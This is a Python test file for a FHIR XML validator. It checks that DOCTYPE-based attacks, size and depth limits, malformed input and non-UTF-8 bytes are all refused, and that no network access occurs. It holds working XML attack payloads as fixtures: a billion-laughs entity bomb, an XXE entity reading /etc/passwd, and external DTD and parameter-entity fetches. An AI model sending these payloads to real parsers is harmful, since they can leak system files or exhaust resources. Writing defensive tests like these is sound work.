"""Hostile XML is refused with one clear fatal issue, before anything is expanded or fetched.

Each attack is built on a real example (the FHIRPath suite's patient-example.xml) so that everything
but the attack is valid FHIR XML."""

from __future__ import annotations

import socket
from pathlib import Path

import pytest

from imgfhir.outcome import Issue
from imgfhir.validation import validate
from imgfhir.validation.source import load
from tests.support import FIXTURES

PATIENT = (FIXTURES / "xml" / "fhirpath" / "r4" / "patient-example.xml").read_text(encoding="utf-8")
BODY = PATIENT.split("?>", 1)[1]  # without its XML declaration


def _with_doctype(doctype: str, replace: tuple[str, str] | None = None) -> str:
    body = BODY.replace(*replace) if replace else BODY
    return '<?xml version="1.0" encoding="UTF-8"?>\n' + doctype + body


BILLION_LAUGHS = _with_doctype(
    '<!DOCTYPE Patient [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">' for i in range(1, 10))
    + "]>\n",
    ('<family value="Chalmers"/>', '<family value="&lol9;"/>'),
)
XXE_FILE = _with_doctype(
    '<!DOCTYPE Patient [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n',
    ('<family value="Chalmers"/>', '<family value="&xxe;"/>'),
)
EXTERNAL_DTD = _with_doctype('<!DOCTYPE Patient SYSTEM "http://example.org/evil.dtd">\n')
PARAMETER_ENTITY = _with_doctype('<!DOCTYPE Patient [<!ENTITY % remote SYSTEM "http://example.org/x.dtd"> %remote;]>\n')
UNDECLARED_ENTITY = PATIENT.replace('<family value="Chalmers"/>', '<family value="&nbsp;"/>')


@pytest.fixture(autouse=True)
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    """Any attempt to open a socket fails the test: the reader must never reach the network."""

    def refuse(*_args: object, **_kwargs: object) -> None:
        raise AssertionError("the XML reader tried to open a network connection")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)


def _only_fatal(issues: list[Issue], rule: str) -> Issue:
    assert len(issues) == 1, issues
    assert issues[0].severity == "fatal" and issues[0].rule == rule, issues[0]
    return issues[0]


@pytest.mark.parametrize(
    "attack", [BILLION_LAUGHS, XXE_FILE, EXTERNAL_DTD, PARAMETER_ENTITY], ids=["billion-laughs", "xxe", "dtd", "param"]
)
def test_doctype_attacks_are_refused(attack: str) -> None:
    outcome = validate(attack, fhir_version="R4")
    issue = _only_fatal(outcome.issues, "xml-dtd")
    assert issue.code == "security"
    assert "DOCTYPE" in issue.message
    assert (issue.line, issue.column) == (2, 1)  # where the DOCTYPE starts


def test_attacks_are_refused_as_bytes_and_files(tmp_path: Path) -> None:
    path = tmp_path / "evil.xml"
    path.write_text(XXE_FILE, encoding="utf-8")
    for source in (XXE_FILE.encode(), path, str(path)):
        _only_fatal(load(source).issues, "xml-dtd")


def test_an_undeclared_entity_is_not_well_formed() -> None:
    issue = _only_fatal(validate(UNDECLARED_ENTITY, fhir_version="R4").issues, "xml-syntax")
    assert "undefined entity" in issue.message
    line = next(i for i, text in enumerate(UNDECLARED_ENTITY.splitlines(), 1) if "&nbsp;" in text)
    assert issue.line == line


def test_size_is_bounded_before_parsing() -> None:
    issue = _only_fatal(load(PATIENT.encode(), max_bytes=1000).issues, "xml-size")
    assert issue.code == "too-costly" and "max_bytes" in issue.message


def test_depth_is_bounded() -> None:
    deep = PATIENT.replace('<family value="Chalmers"/>', "<extension>" * 300 + "</extension>" * 300)
    issue = _only_fatal(validate(deep, fhir_version="R4").issues, "xml-depth")
    assert issue.code == "too-costly"


def test_not_well_formed_reports_line_and_column() -> None:
    broken = PATIENT.replace('<family value="Chalmers"/>', '<family value="Chalmers">')
    issue = _only_fatal(validate(broken, fhir_version="R4").issues, "xml-syntax")
    assert "mismatched tag" in issue.message and issue.line is not None and issue.column is not None


def test_bytes_that_are_not_utf8_are_refused() -> None:
    latin1 = PATIENT.replace("Chalmers", "Chälmers").encode("latin-1")
    issue = _only_fatal(load(latin1).issues, "xml-encoding")
    assert "UTF-8" in issue.message


def test_the_collector_is_back_after_reading_good_and_bad_xml() -> None:
    """Reading pauses the cyclic garbage collector; it must be running again afterwards, whatever happened."""
    import gc

    assert gc.isenabled()
    for text in (PATIENT, UNDECLARED_ENTITY, XXE_FILE, PATIENT.replace("</Patient>", "")):
        validate(text, fhir_version="R4")
        assert gc.isenabled()
    gc.disable()
    try:  # and a caller's paused collector stays paused
        validate(PATIENT, fhir_version="R4")
        assert not gc.isenabled()
    finally:
        gc.enable()
